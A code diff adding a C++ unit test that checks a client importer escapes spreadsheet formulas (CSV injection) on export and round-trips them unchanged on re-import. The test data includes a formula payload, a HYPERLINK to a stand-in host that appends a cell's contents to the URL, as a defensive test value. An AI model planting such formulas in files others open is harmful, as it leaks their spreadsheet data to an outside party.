@@ -720,6 +720,33 @@ TEST_F(ImporterTest, ExportStreamsEveryClientInChunksWithQuoting) {
               ElementsAre(absl::StrCat(first_neri), "Neri, Gialli 2000", ""));
 }
 
+// A name or number a spreadsheet would run as a formula (CSV injection) is
+// exported as text, and the export uploaded again changes nothing; a row of
+// it an upload rejects keeps that in the error report.
+TEST_F(ImporterTest, FormulasAreExportedAsTextAndReadBackAsTheyWere) {
+  const std::string formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Open\")";
+  const uint64_t hostile = AddClient(formula, "-17");
+  std::string exported;
+  ASSERT_THAT(importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, false, AnyRoom,
+                                [&](std::string chunk) {
+                                  exported += chunk;
+                                  return true;
+                                }),
+              IsOk());
+  EXPECT_THAT(exported, HasSubstr(absl::StrCat(hostile, ",\"'=HYPERLINK(")));
+  EXPECT_THAT(exported, HasSubstr(",'-17\r\n"));
+
+  JobRecord again = Import(exported);
+  EXPECT_EQ(again.state(), v1::ImportJob::SUCCEEDED) << again.failure_reason();
+  EXPECT_EQ(again.rejected_rows(), 0);
+  EXPECT_EQ(Number(hostile), "-17");
+
+  JobRecord wrong = Import(File({absl::StrCat(rossi_, ",@Rossi,-1")}));
+  ASSERT_EQ(wrong.rejected_rows(), 1);
+  EXPECT_THAT(testing::ValueOrFail(Report(wrong)),
+              HasSubstr(absl::StrCat(rossi_, ",'@Rossi,'-1,")));
+}
+
 // An export holds one page's CSV while its caller reads the last: pages of
 // 1,000 clients of the longest names (1.2 MB) took the import service past
 // half a GiB with 300 callers that stopped reading. Pages are now asked
